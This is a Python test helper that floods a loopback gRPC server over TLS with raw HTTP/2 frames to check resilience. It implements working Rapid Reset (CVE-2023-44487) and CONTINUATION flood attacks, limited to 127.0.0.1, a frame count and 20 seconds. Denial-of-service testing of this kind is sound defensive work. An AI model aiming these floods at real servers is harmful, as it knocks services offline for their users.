#!/usr/bin/env python3
"""Floods of HTTP/2 frames over one TLS connection to the loopback, bounded in count and time: for floods_test.cc.

floods.py PORT CA CERTIFICATE KEY reset|continuation COUNT
"""
import socket
import ssl
import struct
import sys
import time

SECONDS = 20
HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 1, 3, 4, 9
END_HEADERS = 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """HPACK: a header that is not to be remembered, in plain text."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def request():
    path = b"/berth.v1.HostService/GetHost"
    return (b"\x83\x87" + literal(b":path", path) + literal(b":authority", b"localhost")
            + literal(b"te", b"trailers") + literal(b"content-type", b"application/grpc"))


def connect(port, ca, certificate, key):
    context = ssl.create_default_context(cafile=ca)
    context.load_cert_chain(certificate, key)
    context.set_alpn_protocols(["h2"])
    plain = socket.create_connection(("127.0.0.1", port), timeout=5)
    secure = context.wrap_socket(plain, server_hostname="localhost")
    secure.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
    return secure


def resets(count):
    """CVE-2023-44487: calls that are taken back at once."""
    headers = request()
    for number in range(count):
        stream = 2 * number + 1
        yield frame(HEADERS, END_HEADERS, stream, headers) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def continuations(count):
    """CVE-2023-33953: headers that never end, a few bytes at a time."""
    yield frame(HEADERS, 0, 1, request())
    for number in range(count):
        yield frame(CONTINUATION, 0, 1, literal(b"x-%06d" % number, b"y" * 100))


def drain(secure):
    secure.setblocking(False)
    try:
        while secure.recv(65536):
            pass
    except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
        pass
    secure.settimeout(5)


def main():
    port, ca, certificate, key, kind, count = int(sys.argv[1]), *sys.argv[2:6], int(sys.argv[6])
    frames = {"reset": resets, "continuation": continuations}[kind](count)
    end = time.monotonic() + SECONDS
    sent = 0
    batch = b""
    try:
        secure = connect(port, ca, certificate, key)
        for one in frames:
            batch += one
            sent += 1
            if len(batch) > 32768:
                secure.sendall(batch)
                drain(secure)
                batch = b""
            if time.monotonic() > end:
                break
        secure.sendall(batch)
        time.sleep(0.5)
    except OSError as error:
        print("cut off:", error)
    print("sent", sent)


main()
